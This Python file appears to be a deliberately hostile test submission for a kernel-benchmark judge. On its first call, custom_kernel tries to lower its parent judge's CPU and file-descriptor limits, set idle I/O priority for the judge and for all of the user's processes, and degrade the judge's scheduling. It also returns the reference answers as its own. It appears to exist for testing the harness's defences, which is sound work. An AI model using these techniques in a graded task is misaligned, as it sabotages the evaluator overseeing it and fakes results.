"""Hostile: the judge (its parent) runs as the same user, so without a filter a worker may set the judge's
resource limits: RLIMIT_CPU below what the judge has used kills it (SIGXCPU, then SIGKILL), and
RLIMIT_NOFILE below what it holds open fails its next check. Tries both on its first call, and the
judge's I/O priority (its own, and its user's: all of the user's processes), its CPU priority, the CPUs it
may run on and its scheduling policy (to slow the host that watches the judge's
clock), and prints what it could; its answers are the reference's."""
import ctypes
import os
import platform
import resource

from reference import ref_kernel

_IOPRIO_SET = {"x86_64": 251, "aarch64": 30}.get(platform.machine())
_tried = []


def _attack():
    judge = os.getppid()
    for name, limit in (("RLIMIT_CPU", (1, 1)), ("RLIMIT_NOFILE", (12, 12))):
        try:
            resource.prlimit(judge, getattr(resource, name), limit)
            print(f"LEAK: set the judge's {name} to {limit}", flush=True)
        except OSError as e:
            print(f"refused: the judge's {name} ({e.strerror})", flush=True)
    if _IOPRIO_SET is not None:  # ioprio_set(IOPRIO_WHO_PROCESS, judge, IOPRIO_CLASS_IDLE << 13)
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.syscall(_IOPRIO_SET, 1, judge, 3 << 13) == 0:
            print("LEAK: set the judge's I/O priority to idle", flush=True)
        else:
            print(f"refused: the judge's I/O priority ({os.strerror(ctypes.get_errno())})", flush=True)
        # ioprio_set(IOPRIO_WHO_USER, 0, ...): every process of this user, the judge's among them
        if libc.syscall(_IOPRIO_SET, 3, 0, 3 << 13) == 0:
            print("LEAK: set the I/O priority of every process of the judge's user to idle", flush=True)
        else:
            print(f"refused: the user's I/O priority ({os.strerror(ctypes.get_errno())})", flush=True)


def _attack_the_scheduling():
    judge = os.getppid()
    for what, call in (("CPU priority", lambda: os.setpriority(os.PRIO_PROCESS, judge, 19)),
                       ("CPUs", lambda: os.sched_setaffinity(judge, {min(os.sched_getaffinity(judge))})),
                       ("scheduling policy", lambda: os.sched_setscheduler(judge, os.SCHED_IDLE, os.sched_param(0)))):
        try:
            call()
            print(f"LEAK: set the judge's {what}", flush=True)
        except OSError as e:
            print(f"refused: the judge's {what} ({e.strerror})", flush=True)


def custom_kernel(data):
    if not _tried:
        _tried.append(True)
        _attack()
        _attack_the_scheduling()
    return ref_kernel(data)
